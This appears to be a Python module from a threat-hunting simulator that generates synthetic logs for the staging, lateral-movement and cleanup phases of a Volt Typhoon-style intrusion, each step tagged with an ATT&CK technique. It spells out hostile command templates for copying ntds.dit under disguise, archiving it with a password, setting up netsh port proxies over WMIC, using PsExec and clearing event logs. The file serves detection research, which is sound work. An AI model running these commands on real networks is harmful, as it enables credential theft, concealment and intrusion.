"""Volt Typhoon's last two hands-on-keyboard windows: staging and lateral movement
(the ntds.dit copy disguised, the proxy host reached over WMIC, PsExec/wmiexec/RDP), then
cleanup (logs cleared, staging folders removed). Step and ATT&CK technique labelled, from
the choices in :class:`Actor`."""

from __future__ import annotations

from collections import defaultdict
from datetime import timedelta

from lotlhunt.simulate.actions import (
    a_clear,
    a_cmd,
    a_net,
    a_psexec_src,
    a_psexec_target,
    a_rdp_close,
    a_relay,
    a_remote_target,
    a_shell,
    a_smb,
    a_smb_browse,
    a_wmic_remote_src,
    a_wmiexec,
)
from lotlhunt.simulate.campaigns.plan import Timeline, rand_text
from lotlhunt.simulate.campaigns.volt_typhoon_actor import Actor, rdp_in, wmic_node
from lotlhunt.simulate.campaigns.volt_typhoon_sheet import CRED_RECON, IFM_DIRS
from lotlhunt.simulate.host import MIN, SEC
from lotlhunt.simulate.inventory import TOOLS
from lotlhunt.simulate.templates import SECURITY, SYSTEM_LOG, WINDOWS_POWERSHELL


def staging_window(a: Actor, W: Timeline, stamp_day: int) -> None:
    """Window 2: archive, SMB pull, port proxy, share discovery, credential recon (rows 15-33)."""
    rng, dc, web, fs, net = a.rng, a.dc, a.web, a.fs, a.net
    ifm_dir = IFM_DIRS["tmp"] if a.cred == ["wmiexec"] and a.ifm_key == "McAfee_Logs" else a.ifm_dir
    rdp_in(a, W)
    apw = rand_text(rng, 10, "abcdefghijkmnpqrstuvwxyz23456789")
    temp = "c:\\windows\\temp"
    src = temp + "\\*" if ifm_dir.lower().startswith(temp) else ifm_dir + "\\*"
    if rng.random() < 0.4:
        W.now(
            dc,
            "staging_archive",
            "T1036.008",
            a_cmd,
            files=[ifm_dir + "\\ntds.dit.gif"],
            cmd=f'cmd /c copy "{ifm_dir}\\Active Directory\\ntds.dit" {ifm_dir}\\ntds.dit.gif',
        )
    pulled = ""
    if a.stage == "7z":
        archive = f"{temp}\\{rand_text(rng, 6, 'abcdefghijklmnopqrstuvwxyz')}.7z"
        W.now(
            dc,
            "staging_archive",
            "T1560.001",
            a_cmd,
            cmd=f'"{TOOLS["7z"]}" a -p{apw} -v100m {archive} {src}',
        )
        pulled = archive.split(":\\", 1)[1] + ".001"
    elif a.stage == "rar":
        W.now(
            dc,
            "staging_archive",
            "T1560.001",
            a_cmd,
            pe_as="rar.exe",
            cmd=f"C:\\Windows\\Temp\\ronf.exe a -hp{apw} c:\\Windows\\temp\\DMBC2C61.tmp {src}",
        )
        pulled = "Windows\\temp\\DMBC2C61.tmp"
    if pulled:
        t = W.now(web, "exfiltration_smb", "T1048", a_net, dst=dc.ip, port=445)
        W.add(
            dc,
            t + 300_000,
            "exfiltration_smb",
            "T1048",
            a_smb,
            acct=a.da,
            src_ip=web.ip,
            share="C$",
            local="\\??\\C:\\",
            files=[pulled],
        )
    listen, to, port = a.pp
    add = "cmd.exe /c netsh interface portproxy add v4tov4"
    inner = (
        f"{add} listenaddress=0.0.0.0 listenport={listen} connectaddress={to} "
        f"connectport={port} protocol=tcp"
        if listen == 9999
        else f"{add} listenport={listen} listenaddress=0.0.0.0 connectport={port} "
        f"connectaddress={to}"
    )
    pp = a.pp_host
    t = W.now(
        dc,
        "proxy_portproxy",
        "T1047",
        a_wmic_remote_src,
        cmd=wmic_node(a, pp, inner),
        target=pp.name,
        target_ip=pp.ip,
        acct=a.da,
        via="console",
    )
    W.add(
        pp,
        t + SEC,
        "proxy_portproxy",
        "T1090.001",
        a_remote_target,
        acct=a.da,
        src_ip=dc.ip,
        inner=inner,
    )
    W.add(
        pp,
        t + 5 * MIN,
        "proxy_portproxy",
        "T1090.001",
        a_relay,
        dst=to,
        port=port,
        count=rng.randint(3, 8),
    )
    user = rng.choice(net.people).account.sam
    t = W.now(
        dc,
        "discovery_remote_share",
        "T1083",
        a_cmd,
        cmd=f"cmd.exe /C dir /S \\\\{fs.name}\\c$\\Users\\{user} >> "
        f"{temp}\\{rand_text(rng, 5)}.tmp",
    )
    files = [f"Users\\{user}" + s for s in ("", "\\Documents", "\\Desktop", "\\Downloads")]
    W.add(
        fs,
        t + 200_000,
        "discovery_remote_share",
        "T1135",
        a_smb_browse,
        acct=a.da,
        src_ip=dc.ip,
        share="C$",
        local="\\??\\C:\\",
        files=files,
    )
    t = W.now(
        dc,
        "lateral_smb",
        "T1021.002",
        a_cmd,
        cmd=f"net use \\\\{fs.name}\\admin$ {a.pw} /u:{net.netbios}\\{a.da.sam}",
    )
    W.add(
        fs,
        t + 300_000,
        "lateral_smb",
        "T1021.002",
        a_smb_browse,
        acct=a.da,
        src_ip=dc.ip,
        share="ADMIN$",
        local="\\??\\C:\\Windows",
        files=[],
    )
    if a.stage == "makecab":  # hive moved into the ADSelfService web root as a .lic (row 29)
        stamp = (net.start + timedelta(days=stamp_day)).strftime("%y%m%d") + "-020000"
        moved = f"{ifm_dir[3:]}\\registry\\SYSTEM"
        W.now(
            web,
            "staging_archive",
            "T1074.001",
            a_shell,
            cmd=f'move "\\\\{dc.name}\\c$\\{moved}" ..\\backup\\{stamp}.zip',
        )
        W.add(
            dc,
            W.t + 300_000,
            "staging_archive",
            "T1074.001",
            a_smb,
            acct=a.da,
            src_ip=web.ip,
            share="C$",
            local="\\??\\C:\\",
            files=[moved],
        )
        W.now(
            web,
            "staging_archive",
            "T1560.001",
            a_shell,
            cmd=f"makecab ..\\backup\\{stamp}.zip ..\\webapps\\adssp\\html\\Lock.lic",
        )
    if a.recon_ws is not web and a.recon_ws is not dc:
        epoch = f"{W.t // SEC}.{rng.randrange(10**6):06d}"
        t = W.now(web, "credential_recon_third_party", "T1047", a_net, dst=a.recon_ws.ip, port=135)
        cmds = [c.format(u=a.recon_user) for c in rng.sample(CRED_RECON, rng.randint(4, 8))]
        W.add(
            a.recon_ws,
            t + 200_000,
            "credential_recon_third_party",
            "T1552",
            a_wmiexec,
            acct=a.da,
            src_ip=web.ip,
            commands=cmds,
            epoch=epoch,
        )
        W.step(120, 400)
    W.now(dc, "lateral_rdp", "T1021.001", a_rdp_close, 30, 120)


def cleanup_window(a: Actor, W: Timeline) -> dict[str, dict[int, int]]:
    """Window 3: delete the proxy over PsExec, remove files, clear logs (rows 27, 31)."""
    dc, pp = a.dc, a.pp_host
    rdp_in(a, W)
    delete = f"netsh interface portproxy delete v4tov4 listenaddress=0.0.0.0 listenport={a.pp[0]}"
    t = W.now(
        dc,
        "proxy_portproxy_delete",
        "T1569.002",
        a_psexec_src,
        target_ip=pp.ip,
        cmd=f'"C:\\pstools\\psexec.exe" \\\\{pp.name} -s cmd /c "cmd.exe /c "{delete}""',
    )
    W.add(
        pp,
        t + 800_000,
        "proxy_portproxy_delete",
        "T1070",
        a_psexec_target,
        acct=a.da,
        src_ip=dc.ip,
        src_name=dc.name.upper(),
        inner=f'cmd /c "cmd.exe /c "{delete}""',
        tools=[f'cmd.exe /c "{delete}"', delete],
    )
    W.now(dc, "cleanup", "T1070.004", a_cmd, cmd=f"cmd /c rd /S /Q {a.ifm_dir}")
    W.now(
        a.web,
        "cleanup",
        "T1070.004",
        a_shell,
        cmd="del C:\\Users\\Public\\Documents\\systeminfo.dat",
    )
    clears: dict[str, dict[int, int]] = defaultdict(dict)
    chan = {"Security": SECURITY, "System": SYSTEM_LOG, "Windows PowerShell": WINDOWS_POWERSHELL}
    for host, logs in ((dc, a.dc_logs), (a.web, a.web_logs)):
        plan = []
        for name in logs:
            plan.append((name, W.step(20, 60)))
            clears[host.name][chan[name]] = plan[-1][1]
        if plan:
            via = "ps" if a.clear_via == "ps" and host is dc else "wevtutil"
            W.add(
                host, plan[0][1] - 5 * SEC, "log_clearing", "T1070.001", a_clear, logs=plan, via=via
            )
    W.now(dc, "lateral_rdp", "T1021.001", a_rdp_close, 20, 60)
    return {h: dict(c) for h, c in clears.items()}
